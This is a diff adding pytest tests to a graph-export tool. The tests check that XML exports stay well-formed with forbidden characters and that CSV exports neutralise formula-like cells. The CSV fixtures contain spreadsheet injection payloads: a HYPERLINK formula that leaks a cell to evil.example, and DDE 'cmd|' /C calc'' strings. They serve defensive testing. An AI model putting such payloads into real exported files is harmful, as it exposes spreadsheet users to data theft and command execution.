@@ -1,7 +1,9 @@
 """Exports read back by independent readers: every actor, relation and attribute survives."""
 from __future__ import annotations
 
+import copy
 import csv
+import io
 import json
 import re
 import xml.etree.ElementTree as ET
@@ -13,8 +15,9 @@ from click.testing import CliRunner
 from graph import build_graph, load_dataset
 from graph.cli import cli
 from graph.export import FORMATS, export_text, write_export
+from graph.exporters.tables import to_csv_files
 
-from .conftest import write_dataset
+from .conftest import SMALL_ACTORS, write_dataset
 
 TEXT = (
     'Алиса Example, "the Chair" of the Совет, is the sister of Bob Example. '
@@ -240,6 +243,105 @@ def test_csv_round_trip_keeps_every_attribute_and_neo4j_headers(rich_graph, tmp_
         assert rtype == row["type"]
         back[row.pop("id")] = (u, v, row)
     assert back == edges_of(rich_graph)
+
+
+# --- XML: characters XML 1.0 forbids never make an ill-formed file ---------------------------
+
+NOT_XML = "\x01\x0b\x1f\ud800\udfff\ufffe\uffff"
+
+
+def hostile_to_xml(graph: nx.MultiDiGraph) -> nx.MultiDiGraph:
+    """A copy of ``graph`` with XML-forbidden characters in an actor id, names, lists, an attribute
+    name, a relation id and the vocabulary."""
+    hostile = nx.relabel_nodes(copy.deepcopy(graph), {"bob": "bob" + NOT_XML})
+    hostile.nodes["alice"]["name"] = "Al" + NOT_XML + "ice"
+    hostile.nodes["alice"]["aliases"] = ["A" + NOT_XML]
+    hostile.nodes["carol"]["odd\x02name"] = "value"
+    u, v, key, data = next(iter(hostile.edges("dan", keys=True, data=True)))
+    hostile.remove_edge(u, v, key)
+    hostile.add_edge(u, v, key + NOT_XML, **{**data, "note": "n" + NOT_XML})
+    hostile.graph["kinds"]["person"]["label"] = "Person" + NOT_XML
+    return hostile
+
+
+@pytest.mark.parametrize("fmt, read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
+def test_xml_formats_stay_well_formed_whatever_the_strings(rich_graph, tmp_path, fmt, read):
+    path = tmp_path / f"graph.{fmt}"
+    write_export(hostile_to_xml(rich_graph), fmt, path)
+    ET.parse(path)  # well-formed XML 1.0
+    back = read(path)
+    replaced = "\ufffd" * len(NOT_XML)
+    assert "bob" + replaced in back and back.number_of_nodes() == rich_graph.number_of_nodes()
+    assert back.number_of_edges() == rich_graph.number_of_edges()
+    name = back.nodes["alice"]["label" if fmt == "gexf" else "name"]
+    assert name == "Al" + replaced + "ice"
+    # in JSON text a control character is an escape (\u0001), which XML holds, so it survives
+    assert json.loads(back.nodes["alice"]["aliases"]) == ["A\x01\x0b\x1f" + "\ufffd" * 4]
+    assert back.nodes["carol"]["odd\ufffdname"] == "value"
+    notes = [data["note"] for _, _, data in back.edges(data=True) if "note" in data]
+    assert "n" + replaced in notes
+
+
+# --- CSV injection: formula-like cells are neutralised unless --raw --------------------------
+
+FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "description": "+1 call me", "role": "-2+3"}
+FORMULA_ACTORS = (SMALL_ACTORS.replace("name: Alice Example", "name: '%(name)s'" % FORMULAS)
+                  .replace("aliases: [Alice]", 'aliases: ["%(alias)s"]' % FORMULAS)
+                  .replace("description: A critic.", "description: %(description)s" % FORMULAS))
+FORMULA_RELATION = f"""\
+    relations:
+      - from: alice
+        to: council
+        type: heads
+        role: "{FORMULAS['role']}"
+        sources: [{{document: doc, quote: "the chair of the Example Council"}}]
+    """
+
+
+def exported_csv(tmp_path, *options) -> dict[str, dict]:
+    """The csv export of the formula dataset by the real command: each file's rows by id."""
+    data = write_dataset(tmp_path, {"actors.yaml": FORMULA_ACTORS, "rel.yaml": FORMULA_RELATION})
+    result = CliRunner().invoke(cli, ["export", "--data", str(data), "--format", "csv", "-o", str(tmp_path / "out"),
+                                      *options])
+    assert result.exit_code == 0, result.output
+    tables = {}
+    for name in ("nodes", "edges"):
+        with open(tmp_path / "out" / f"{name}.csv", newline="", encoding="utf-8") as handle:
+            tables[name] = {row.get("id:ID") or row["id"]: row for row in csv.DictReader(handle)}
+    return tables
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
+    tables = exported_csv(tmp_path)
+    alice, dan = tables["nodes"]["alice"], tables["nodes"]["dan"]
+    assert alice["name"] == "'" + FORMULAS["name"] and dan["description"] == "'" + FORMULAS["description"]
+    assert json.loads(alice["aliases"]) == [FORMULAS["alias"]]  # JSON text starts with [: nothing to run
+    (heads,) = [row for row in tables["edges"].values() if row[":TYPE"] == "heads"]
+    assert heads["role"] == "'" + FORMULAS["role"]
+    cells = [cell for table in tables.values() for row in table.values() for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_raw_keeps_every_cell_as_it_is(tmp_path):
+    tables = exported_csv(tmp_path, "--raw")
+    assert tables["nodes"]["alice"]["name"] == FORMULAS["name"]
+    assert tables["nodes"]["dan"]["description"] == FORMULAS["description"]
+
+
+def test_raw_is_for_csv_only(small_data):
+    result = CliRunner().invoke(cli, ["export", "--data", str(small_data), "--format", "json", "--raw"])
+    assert result.exit_code == 2 and "--raw applies to --format csv only" in result.output
+
+
+def test_csv_neutralises_tabs_and_carriage_returns_before_a_formula(rich_graph):
+    hostile = rich_graph.copy()
+    hostile.nodes["bob"]["name"] = "\t=1+2"
+    hostile.nodes["carol"]["name"] = "\r=cmd|' /C calc'!A0"
+    rows = {row["id:ID"]: row for row in csv.DictReader(io.StringIO(to_csv_files(hostile)["nodes.csv"]))}
+    assert (rows["bob"]["name"], rows["carol"]["name"]) == ("'\t=1+2", "'\r=cmd|' /C calc'!A0")
+    raw = {row["id:ID"]: row for row in csv.DictReader(io.StringIO(to_csv_files(hostile, raw=True)["nodes.csv"]))}
+    assert raw["bob"]["name"] == "\t=1+2"
 
 
 # --- Cypher: read the script back with a small reader of Cypher's literal syntax -------------
